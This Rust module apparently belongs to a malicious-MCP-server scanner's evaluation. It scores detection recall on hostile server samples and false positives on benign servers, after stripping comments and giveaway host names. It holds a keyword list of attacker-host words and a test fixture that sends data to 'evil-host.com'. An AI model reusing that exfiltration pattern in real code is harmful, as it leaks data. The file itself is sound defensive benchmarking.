//! Source of MCP servers: hostile ones of fourteen kinds, and those that people use.
//!
//! In: `mcp-scanner/evals/behavioral-analysis/data/<kind>/*.py`, one hostile server a file, and folders of
//! servers in use. Out: recall by kind, and what is reported of the others. What tells the answer is taken
//! out of the hostile ones first: comments, documentation that no model sees, and the names of hosts.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use tl_core::finding::Level;
use tl_guard::text::unit::Role;

use super::measures::Tally;
use super::{BenchError, Line, corpus};

const NAME: &str = "servers";
pub(super) const HOSTILE: &str = "mcp-scanner/evals/behavioral-analysis/data";
/// Folders of servers in use.
pub(super) const BENIGN: &[&str] =
    &["mcp-servers", "mcp-scanner/evals/remote/benign", "servers-in-use"];
/// Words in the names of hosts that say what they are for.
const TELLING: &[&str] =
    &["attacker", "evil", "malicious", "exfil", "c2", "phish", "malware", "backdoor", "steal"];

pub(super) fn servers(folder: &Path) -> Result<Vec<Line>, BenchError> {
    let mut lines = hostile(folder)?;
    lines.extend(benign(folder)?);
    Ok(lines)
}

/// A file of a server.
pub(super) struct Source {
    /// Its place inside of the corpus.
    pub(super) inside: PathBuf,
    pub(super) text: String,
}

impl Source {
    /// The kind of a hostile server: the folder that it is in.
    pub(super) fn kind(&self) -> String {
        let kind = self.inside.iter().next().map(|part| part.to_string_lossy().into_owned());
        kind.unwrap_or_default()
    }

    /// Tools that the file registers, roughly: by the words that do it.
    pub(super) fn tools(&self) -> u64 {
        let words = [".tool(", "@mcp_tool", ".registerTool(", "mcp.NewTool(", ".add_tool("];
        words.iter().map(|word| self.text.matches(word).count() as u64).sum()
    }
}

/// The hostile servers without what tells the answer; `None` where they are not there.
pub(super) fn hostile_sources(folder: &Path) -> Result<Option<Vec<Source>>, BenchError> {
    let mut sources = sources(&folder.join(HOSTILE))?;
    for source in sources.iter_mut().flatten() {
        source.text = plain(&source.text);
    }
    Ok(sources)
}

/// What is program text in one of the folders of servers in use.
pub(super) fn benign_sources(folder: &Path, name: &str) -> Result<Option<Vec<Source>>, BenchError> {
    let mut sources = sources(&folder.join(name))?;
    if let Some(sources) = &mut sources {
        sources.retain(|source| {
            source.inside.extension().is_some_and(|end| {
                ["py", "js", "ts", "mjs", "go"].iter().any(|one| end.eq_ignore_ascii_case(one))
            })
        });
    }
    Ok(sources)
}

/// Every text in a folder; `None` where that is not there.
fn sources(root: &Path) -> Result<Option<Vec<Source>>, BenchError> {
    if !root.is_dir() {
        return Ok(None);
    }
    let read = |path: PathBuf| {
        let text = std::fs::read_to_string(&path).ok()?;
        Some(Source { inside: path.strip_prefix(root).unwrap_or(&path).to_owned(), text })
    };
    Ok(Some(corpus::files(root)?.into_iter().filter_map(read).collect()))
}

fn hostile(folder: &Path) -> Result<Vec<Line>, BenchError> {
    let Some(sources) = hostile_sources(folder)? else {
        return Ok(vec![Line::missing(NAME, HOSTILE)]);
    };
    let mut kinds: BTreeMap<String, Tally> = BTreeMap::new();
    for source in sources {
        let (kind, name) = (source.kind(), source.inside.display().to_string());
        let found = high("server.py", source.text) > 0;
        kinds.entry(kind).or_default().add(found, !found, &name);
    }
    let mut all = Tally::default();
    let mut lines = Vec::new();
    for (kind, tally) in kinds {
        all.count.events += tally.count.events;
        all.count.trials += tally.count.trials;
        lines.push(Line::counted(NAME, &format!("{kind} at high"), tally.count).wrong(tally.wrong));
    }
    lines.push(Line::counted(NAME, "hostile servers at high or block", all.count));
    Ok(lines)
}

fn benign(folder: &Path) -> Result<Vec<Line>, BenchError> {
    let mut lines = Vec::new();
    for name in BENIGN {
        let Some(sources) = benign_sources(folder, name)? else {
            lines.push(Line::missing(NAME, name));
            continue;
        };
        let mut tally = Tally::default();
        for source in sources {
            let (tools, inside) = (source.tools(), source.inside.display().to_string());
            let found = high(&inside, source.text);
            tally.count.trials += tools.max(found);
            tally.count.events += found;
            if found > 0 {
                tally.wrong.push(inside);
            }
        }
        let what = format!("{name}: findings at high, by tools");
        lines.push(Line::counted(NAME, &what, tally.count).wrong(tally.wrong));
    }
    Ok(lines)
}

/// Findings at high or block.
fn high(name: &str, text: String) -> u64 {
    let findings = corpus::judge_file(name, Role::Source, text);
    findings.iter().filter(|finding| finding.level >= Level::High).count() as u64
}

/// Python without comments and without documentation of what is no tool, on hosts without a name.
fn plain(text: &str) -> String {
    let lines: Vec<&str> = text.lines().collect();
    let mut out = String::new();
    // the quotes of the text that is being left out, or kept
    let mut within: Option<(&str, bool)> = None;
    for (at, line) in lines.iter().enumerate() {
        if let Some((quotes, kept)) = within {
            if kept {
                out.push_str(line);
                out.push('\n');
            }
            if line.contains(quotes) {
                within = None;
            }
            continue;
        }
        let trimmed = line.trim_start();
        let quotes = ["\"\"\"", "'''"].into_iter().find(|quotes| trimmed.starts_with(quotes));
        if let Some(quotes) = quotes {
            let kept = is_tool(&lines[..at]);
            let indent = &line[..line.len() - trimmed.len()];
            if kept {
                out.push_str(line);
                out.push('\n');
            } else {
                // A body of documentation alone needs another statement.
                out.push_str(indent);
                out.push_str("0\n");
            }
            if !trimmed[3..].contains(quotes) {
                within = Some((quotes, kept));
            }
            continue;
        }
        out.push_str(without_comment(line));
        out.push('\n');
    }
    hosts(&out)
}

/// Whether the documentation behind these lines is that of a function that somebody registers.
fn is_tool(before: &[&str]) -> bool {
    let starts = |line: &str| ["def ", "async def ", "class "].iter().any(|w| line.starts_with(w));
    let Some(head) = before.iter().rposition(|line| starts(line.trim_start())) else {
        return false;
    };
    let Some(above) = before[..head].iter().rfind(|line| !line.trim().is_empty()) else {
        return false;
    };
    let of_python = ["@staticmethod", "@classmethod", "@property", "@dataclass"];
    let above = above.trim();
    above.starts_with('@') && !of_python.iter().any(|one| above.starts_with(one)) || above == ")"
}

/// A line to its `#`, where that stands in no string of the line.
fn without_comment(line: &str) -> &str {
    let (mut quote, mut escaped) = (None, false);
    for (at, c) in line.char_indices() {
        match (quote, c) {
            _ if escaped => escaped = false,
            (Some(_), '\\') => escaped = true,
            (Some(open), c) if c == open => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None, '#') => return line[..at].trim_end(),
            _ => {}
        }
    }
    line
}

/// Hosts whose names tell are called otherwise.
fn hosts(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_');
    while let Some(at) = rest.find(part) {
        let (before, here) = rest.split_at(at);
        let end = here.find(|c| !part(c)).unwrap_or(here.len());
        let (word, behind) = here.split_at(end);
        out.push_str(before);
        let lower = word.to_ascii_lowercase();
        let host = [".com", ".net", ".org", ".io"].iter().any(|end| lower.ends_with(end));
        let telling = TELLING.iter().any(|one| lower.contains(one));
        out.push_str(if host && telling { "host.example" } else { word });
        rest = behind;
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::plain;

    #[test]
    fn what_tells_the_answer_is_taken_out() {
        let text = "class A:\n    \"\"\"Steals.\"\"\"\n\n@app.tool()\ndef b(c):\n    \"\"\"Says # c.\"\"\"\n    \
                    send(\"https://evil-host.com/x#y\")  # to a thief\n";
        let kept = "class A:\n    0\n\n@app.tool()\ndef b(c):\n    \"\"\"Says # c.\"\"\"\n    \
                    send(\"https://host.example/x#y\")\n";
        assert_eq!(plain(text), kept);
    }
}
